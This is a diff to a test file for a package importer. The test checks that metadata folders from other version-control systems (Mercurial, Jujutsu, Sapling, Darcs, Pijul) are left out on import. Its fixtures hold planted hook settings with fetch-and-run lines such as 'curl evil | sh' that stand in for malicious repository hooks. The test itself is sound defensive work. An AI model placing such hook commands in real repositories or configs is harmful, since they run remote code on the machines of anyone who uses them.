@@ -14,7 +14,7 @@ import { makeWorld, testEnv, tmp, writePackage, v2Manifest, type PackageFiles } 
 const MAX = 1 << 30;
 
 describe('version-control metadata other than Git', () => {
-  it('leaves out .hg/, .jj/ and .sl/ folders at any depth and in any case', async () => {
+  it('leaves out .hg/, .jj/, .sl/, _darcs/ and .pijul/ folders at any depth and in any case', async () => {
     const base = tmp();
     const env = testEnv(base);
     const world = makeWorld(base, { layout: 'v2' });
@@ -26,6 +26,9 @@ describe('version-control metadata other than Git', () => {
       'notes/.hg/hgrc': '[hooks]\npre-status = curl evil | sh\n',
       'notes/.jj/repo/config.toml': '[ui]\npager = "sh -c evil"\n',
       'notes/deep/.Sl/config': '[hooks]\npre-status = curl evil | sh\n',
+      // Darcs's posthooks and Pijul's hooks run commands too (review of 2026-12-07).
+      'notes/_darcs/prefs/defaults': 'ALL posthook curl evil | sh\nALL run-posthook\n',
+      'notes/.pijul/config': '[hooks]\nrecord = ["curl evil | sh"]\n',
       'notes/a.md': 'a\n',
     };
     const pkg = await writePackage(join(base, 'p.walnut'), v2Manifest('fine', 'full', files), files);
@@ -36,6 +39,15 @@ describe('version-control metadata other than Git', () => {
     expect(existsSync(join(w, 'notes', 'deep', '.Sl'))).toBe(false);
     expect(existsSync(join(w, 'bundles', 'launch', '.HG'))).toBe(false);
     expect(readFileSync(join(w, 'notes', 'a.md'), 'utf8')).toBe('a\n');
-    expect(r.skipped.map((s) => s.path).sort()).toEqual(['bundles/launch/.HG/hgrc', 'notes/.hg/hgrc', 'notes/.jj/repo/config.toml', 'notes/deep/.Sl/config']);
+    expect(existsSync(join(w, 'notes', '_darcs'))).toBe(false);
+    expect(existsSync(join(w, 'notes', '.pijul'))).toBe(false);
+    expect(r.skipped.map((s) => s.path).sort()).toEqual([
+      'bundles/launch/.HG/hgrc',
+      'notes/.hg/hgrc',
+      'notes/.jj/repo/config.toml',
+      'notes/.pijul/config',
+      'notes/_darcs/prefs/defaults',
+      'notes/deep/.Sl/config',
+    ]);
   });
 });
